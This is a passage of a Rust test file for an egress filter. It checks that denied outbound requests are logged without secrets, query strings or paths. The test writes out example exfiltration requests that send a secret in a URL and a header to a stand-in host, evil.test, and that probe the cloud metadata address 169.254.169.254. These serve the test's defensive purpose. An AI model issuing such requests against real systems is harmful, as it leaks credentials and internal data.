        session.send(plain, deadline()).await.unwrap().body,
        b"stolen"
    );
}

#[tokio::test]
async fn denials_are_logged_without_secrets_or_queries() {
    let buf = Arc::new(std::sync::Mutex::new(Vec::<u8>::new()));
    let writer = {
        let buf = buf.clone();
        move || LogSink(buf.clone())
    };
    let subscriber = tracing_subscriber::fmt()
        .with_writer(writer)
        .with_ansi(false)
        .finish();
    let _guard = tracing::subscriber::set_default(subscriber);
    let evil = TestServer::start(|_, _| Reply::ok("stolen")).await;
    let session = Egress::new(settings()).unwrap().session(secret_grant(1));
    let url = format!(
        "http://evil.test:{}/path?code={SECRET}&sig=query-value",
        evil.port
    );
    denied(
        session
            .send(
                Request {
                    headers: vec![("x-key".into(), SECRET.into())],
                    ..get(&url)
                },
                deadline(),
            )
            .await,
    );
    denied(
        session
            .send(get("http://169.254.169.254/?sig=query-value"), deadline())
            .await,
    );
    let log = String::from_utf8(buf.lock().unwrap().clone()).unwrap();
    assert!(
        log.contains("egress denied") && log.contains("test-plugin") && log.contains("conn-1"),
        "{log}"
    );
    assert!(
        log.contains(&format!("http://evil.test:{}", evil.port)),
        "{log}"
    );
    for forbidden in [SECRET, "query-value", "/path"] {
        assert!(
            !log.contains(forbidden),
            "`{forbidden}` leaked into the log: {log}"
        );
    }
}

struct LogSink(Arc<std::sync::Mutex<Vec<u8>>>);

impl std::io::Write for LogSink {
    fn write(&mut self, data: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(data);
        Ok(data.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}
